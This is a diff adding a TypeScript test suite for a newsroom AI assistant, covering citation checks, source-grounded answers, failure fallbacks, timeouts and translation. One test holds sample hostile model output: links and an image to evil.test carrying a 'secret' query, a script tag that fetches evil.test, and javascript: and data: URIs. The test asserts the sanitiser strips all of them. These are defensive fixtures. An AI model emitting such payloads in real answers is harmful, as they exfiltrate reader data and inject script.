@@ -1,0 +1,340 @@
+import { unsupportedMark } from '@/lib/model/article/citations';
+import { modelAnswerChars, modelFirstWordMs, modelPauseMs, modelTotalMs } from '@/lib/model/limits';
+import { phrases } from '@/lib/newsroom/assistant/phrases';
+import { noAnswer } from '@/lib/newsroom/assistant/prompt';
+import { openStore } from '@/lib/newsroom/store/engine/open-store';
+import { sampleEvent } from '../store/sample';
+import {
+  begin,
+  behaviours,
+  chunkOf,
+  ending,
+  says,
+  startModelServer,
+  type Behaviour,
+  type ModelServer,
+} from '../assistant/model-server';
+import {
+  answerOf,
+  chunksOf,
+  createTestClock,
+  exceptionsOf,
+  newTurnId,
+  referencesOf,
+  start,
+  startNewsroom,
+} from '../assistant/newsroom';
+
+const question = 'How many times was a leap second added?';
+const true1 =
+  'The most recent leap second came at the end of 2016 and put UTC 37 seconds behind atomic time.';
+const en = phrases.en;
+
+let server: ModelServer;
+let newsroom: Awaited<ReturnType<typeof startNewsroom>>;
+let time: ReturnType<typeof createTestClock>;
+let devices = 0;
+/** Each with a browser of its own: nobody asks that much in a day. */
+const someone = () => ({ device: `d-${(devices += 1)}`, guestChat: true });
+
+beforeAll(async () => {
+  server = await startModelServer();
+  time = createTestClock();
+  newsroom = await startNewsroom({
+    model: { baseUrl: server.baseUrl, apiKey: 'the key', name: 'some-model' },
+    clock: time.clock,
+    timer: time.timer,
+  });
+});
+afterAll(async () => {
+  await newsroom.close();
+  await server.close();
+});
+
+const until = async (holds: () => boolean) => {
+  while (!holds()) await new Promise((resolve) => setTimeout(resolve, 5));
+};
+const asked = (behaviour: Behaviour, message = {}) => {
+  server.script(behaviour);
+  return newsroom.chunks({ input: question, ...message }, { who: someone() });
+};
+/** The number in the prompt of the passage that begins so. */
+const numberOf = (beginning: string) => {
+  const prompt = server.requests.at(-1)?.body.messages.at(-1)?.content ?? '';
+  const line = prompt.split('\n').find((one) => one.includes(`"passage":"${beginning}`)) ?? '{}';
+  return (JSON.parse(line) as { numbers?: number[] }).numbers?.[0] ?? 0;
+};
+/** Says sentences with the number that the passage about 2016 has in the prompt. */
+const cites =
+  (say: (n: number) => string): Behaviour =>
+  (response, request, aborted) =>
+    says(say(numberOf('The most recent')))(response, request, aborted);
+
+describe('what the model is told', () => {
+  it('is the question, and passages as data between marks that no article knows', async () => {
+    await asked(says(noAnswer));
+    const [request] = server.requests;
+    expect(request?.path).toBe('/v1/chat/completions');
+    expect(request?.authorization).toBe('Bearer the key');
+    expect(request?.body).toMatchObject({ model: 'some-model', stream: true });
+    expect(request?.body).not.toHaveProperty('tools');
+    const [system, user] = request?.body.messages ?? [];
+    expect(system).toMatchObject({ role: 'system', content: expect.stringContaining('English') });
+    const lines = user?.content.split('\n') ?? [];
+    const mark = /^BEGIN ([0-9a-f-]{36})$/.exec(lines[0] ?? '')?.[1] ?? 'none';
+    const end = lines.indexOf(`END ${mark}`);
+    expect(end).toBeGreaterThan(3);
+    for (const line of lines.slice(1, end)) {
+      expect(JSON.parse(line)).toEqual({
+        numbers: expect.any(Array),
+        source: expect.any(String),
+        date: expect.stringMatching(/^\d{4}-\d\d-\d\d$/),
+        passage: expect.any(String),
+      });
+    }
+    expect(lines.at(-1)).toBe(`Question: ${question}`);
+  });
+
+  it('carries the conversation so far, oldest first', async () => {
+    const who = someone();
+    server.script(cites((n) => `${true1}[${n}]`));
+    await newsroom.chunks({ input: question }, { who, session: '5' });
+    await newsroom.chunks({ input: 'And what of the clocks then?' }, { who, session: '5' });
+    const roles = server.requests.at(-1)?.body.messages.map(({ role }) => role);
+    expect(roles).toEqual(['system', 'user', 'assistant', 'user']);
+    expect(server.requests.at(-1)?.body.messages[1]?.content).toBe(question);
+  });
+});
+
+describe('what the model writes', () => {
+  it('is shown sentence by sentence with its sources', async () => {
+    const chunks = await asked(cites((n) => `${true1}[${n}] ${true1} [${n}].`));
+    const n = numberOf('The most recent');
+    expect(answerOf(chunks)).toBe(`${true1}[${n}] ${true1}[${n}]`);
+    const kinds = chunks.map(({ type }) => type);
+    expect(kinds.filter((kind) => kind === 'answer')).toHaveLength(3);
+    expect(kinds.indexOf('reference')).toBeLessThan(kinds.indexOf('answer'));
+    expect(referencesOf(chunks).find(({ order }) => order === n)?.source).toBe('NIST');
+    expect(exceptionsOf(chunks)).toEqual([]);
+  });
+
+  it.each<[string, (n: number) => string]>([
+    [
+      'a number that is in no source',
+      (n) => `The most recent leap second came at the end of 2017.[${n}]`,
+    ],
+    ['no citation', () => true1],
+    ['a citation of nothing', () => `${true1}[99]`],
+    ['another thing', (n) => `Chocolate prices doubled in Belgian supermarkets.[${n}]`],
+    ['a denial', (n) => `The most recent leap second never came at the end of 2016.[${n}]`],
+  ])('is marked for the reader when it has %s', async (_, say) => {
+    const chunks = await asked(cites(say));
+    expect(answerOf(chunks)).toMatch(/\S\[\?\]$/);
+    expect(answerOf(chunks)).not.toMatch(/\[\d/);
+    expect(unsupportedMark).toBe('[?]');
+  });
+
+  it('leads nowhere, whatever it writes', async () => {
+    const evil = [
+      `See [the truth](https://evil.test/a).[1]`,
+      `![x](https://evil.test/p.png?q=secret) www.evil.test and evil.com/x and me@evil.test.[1]`,
+      `<a href="https://evil.test">here</a><script>fetch('//evil.test')</script>[1]`,
+      `[ref]: https://evil.test`,
+      `javascript:alert(1) data:text/html;base64,AAAA 127.0.0.1:8080/x`,
+      `${true1}[1]`,
+    ].join('\n\n');
+    const chunks = await asked(says(evil, 3));
+    expect(answerOf(chunks)).not.toMatch(/evil|:\/\/|www\.|javascript:|data:|<|\]\(|127\.0/);
+    expect(answerOf(chunks)).toContain('The most recent leap second came');
+  });
+
+  it('tool calls and other fields are not read', async () => {
+    const chunks = await asked((response) => {
+      begin(response);
+      response.write(
+        'data: {"choices":[{"delta":{"tool_calls":[{"function":{"name":"rm"}}],"role":"assistant"}}]}\n\n',
+      );
+      response.write('data: {"choices":[]}\n\n: comment\n\n');
+      response.write(chunkOf(`${true1}[1]`));
+      response.end(ending);
+    });
+    expect(answerOf(chunks)).toContain('The most recent leap second');
+  });
+
+  it('that the passages do not answer becomes our own plain words', async () => {
+    const chunks = await asked(says(noAnswer, 2));
+    expect(answerOf(chunks)).toBe(en.nothing);
+    expect(referencesOf(chunks)).toEqual([]);
+  });
+
+  it('is not asked for when nothing was found', async () => {
+    const chunks = await asked(says('Anything.'), { input: 'xyzzy plugh' });
+    expect(answerOf(chunks)).toBe(en.nothing);
+    // The question is translated at most.
+    expect(server.requests.length).toBeLessThanOrEqual(1);
+  });
+});
+
+describe('a model that fails before it says anything', () => {
+  it.each<[string, Behaviour]>([
+    ['429', behaviours.status(429)],
+    ['500', behaviours.status(500)],
+    ['401', behaviours.status(401)],
+    ['wrong JSON', behaviours.wrongJson()],
+    ['other JSON', behaviours.otherJson],
+    ['a page', behaviours.page],
+    ['a redirect', behaviours.redirect],
+    ['an end without an answer', behaviours.endsEarly('')],
+    ['a closed connection', (response) => response.destroy()],
+    [
+      'an error in the stream',
+      (response) => {
+        begin(response);
+        response.end('data: {"error":{"message":"overloaded"}}\n\n');
+      },
+    ],
+    [
+      'an event without end',
+      (response) => {
+        begin(response);
+        for (let n = 0; n < 20; n += 1) response.write(`data: ${'x'.repeat(10_000)}`);
+      },
+    ],
+    ['nothing to say', says('')],
+  ])('through %s is replaced by passages, and says so', async (_, behaviour) => {
+    const chunks = await asked(behaviour);
+    expect(exceptionsOf(chunks)).toEqual([en.modelAway]);
+    expect(answerOf(chunks)).toContain(en.quotes);
+    expect(answerOf(chunks)).toMatch(/\[1\]/);
+    expect(chunks.some((chunk) => chunk.type === 'answer' && chunk.mark === 'end')).toBe(true);
+  });
+
+  it('through silence is given up after a while', async () => {
+    server.script(behaviours.silent());
+    const running = newsroom.chunks({ input: question }, { who: someone() });
+    await until(() => server.requests.length > 0);
+    time.advance(modelFirstWordMs - 1);
+    time.advance(1);
+    expect(exceptionsOf(await running)).toEqual([en.modelAway]);
+  });
+
+  it('with nothing to quote says only that', async () => {
+    server.script(behaviours.status(500));
+    const chunks = await newsroom.chunks(
+      { input: 'Which vaccine protects against malaria?' },
+      { who: someone() },
+    );
+    expect(exceptionsOf(chunks)).toEqual([en.modelAwayNothing]);
+    expect(answerOf(chunks)).toBe('');
+  });
+});
+
+describe('a model that fails in the middle', () => {
+  const begun = `${true1}[2] And then it`;
+  const isKept = (chunks: Awaited<ReturnType<typeof asked>>) => {
+    expect(answerOf(chunks)).toMatch(/^The most recent leap second came at the end of 2016.*\]$/);
+    expect(answerOf(chunks)).not.toContain('And then it');
+    expect(exceptionsOf(chunks)).toEqual([en.brokenOff]);
+    expect(chunks.some((chunk) => chunk.type === 'answer' && chunk.mark === 'end')).toBe(true);
+  };
+
+  it.each<[string, Behaviour]>([
+    ['a cut connection', behaviours.cutOff(begun)],
+    ['an early end', behaviours.endsEarly(begun)],
+    ['wrong JSON', behaviours.wrongJson(begun)],
+  ])('through %s leaves what it said, and says that it broke off', async (_, behaviour) => {
+    isKept(await asked(behaviour));
+  });
+
+  it('through silence likewise', async () => {
+    server.script(behaviours.silent(begun));
+    const answer = await newsroom.ask({ input: question }, { who: someone() });
+    const reader = answer.body?.getReader();
+    let wire = '';
+    const read = async () => {
+      const next = await reader?.read();
+      wire += new TextDecoder().decode(next?.value);
+      return next?.done === false;
+    };
+    while (!wire.includes('2016')) await read();
+    // The heartbeat, the time of the whole answer, and that of the next word.
+    await until(() => time.waiting() === 3);
+    time.advance(modelPauseMs);
+    while (await read());
+    isKept(chunksOf(wire));
+  });
+
+  it('without end is ended, and is no longer listened to', async () => {
+    const chunks = await asked(behaviours.endless(`${true1}[2]`));
+    expect(exceptionsOf(chunks)).toEqual([en.tooLong]);
+    expect(answerOf(chunks).length).toBeLessThan(2 * modelAnswerChars);
+    await server.left();
+  });
+
+  it('by dripping for ever is ended by the clock', async () => {
+    const [began, left]: [number, { at?: number }] = [time.clock(), {}];
+    server.script(async (response, _, aborted) => {
+      begin(response);
+      void aborted.then(() => (left.at = time.clock()));
+      for (let n = 0; n < 1_000 && left.at === undefined; n += 1) {
+        response.write(chunkOf(`${true1}[2] `));
+        time.advance(modelPauseMs / 2);
+        await new Promise((resolve) => setTimeout(resolve, 5));
+      }
+    });
+    const chunks = await newsroom.chunks({ input: question }, { who: someone() });
+    expect(exceptionsOf(chunks)).toHaveLength(1);
+    expect((left.at ?? 0) - began).toBeLessThan(2 * modelTotalMs);
+  });
+
+  it('may be asked again under the same id, uncounted, until it succeeds', async () => {
+    const who = someone();
+    const turn_id = newTurnId();
+    server.script(
+      behaviours.endsEarly(begun),
+      cites((n) => `${true1}[${n}]`),
+    );
+    const first = await newsroom.chunks({ input: question, turn_id }, { who });
+    expect(exceptionsOf(first)).toHaveLength(1);
+    const second = await newsroom.chunks({ input: question, turn_id }, { who });
+    expect(exceptionsOf(second)).toEqual([]);
+    const third = await newsroom.chunks({ input: question, turn_id }, { who });
+    expect(answerOf(third)).toBe(answerOf(second));
+    expect(server.requests).toHaveLength(2);
+  });
+});
+
+it('a reader who leaves is heard by the model at once', async () => {
+  server.script(behaviours.silent(`${true1}[2] `));
+  const answer = await newsroom.ask({ input: question }, { who: someone() });
+  const reader = answer.body?.getReader();
+  await reader?.read();
+  await until(() => server.requests.length > 0);
+  await reader?.cancel();
+  await server.left();
+  expect(time.waiting()).toBe(0);
+});
+
+it('a question in one language finds articles of another where the model translates it', async () => {
+  const store = await openStore({ dataDir: newsroom.folder });
+  const text = 'The lighthouse of Port Almond was relit in 1931 after the storm.[1]';
+  await store.events.save(
+    sampleEvent('e-light', {
+      title: [{ lang: 'source', text: 'Port Almond lighthouse' }],
+      content: [{ element_type: 'p', text: [{ lang: 'source', text }] }],
+      rank_time: start,
+      release_time: start,
+    }),
+  );
+  await store.close();
+  server.script(
+    says('{"en":"When was the lighthouse of Port Almond relit?","zh":"","ph":""}'),
+    says('杏仁港灯塔在1931年重新点亮。[1]'),
+  );
+  const chunks = await newsroom.chunks(
+    { input: '杏仁港的灯塔是哪一年重新点亮的？' },
+    { who: someone(), language: 'ZH' },
+  );
+  expect(answerOf(chunks)).toBe('杏仁港灯塔在1931年重新点亮。[1]');
+  expect(server.requests).toHaveLength(2);
+});
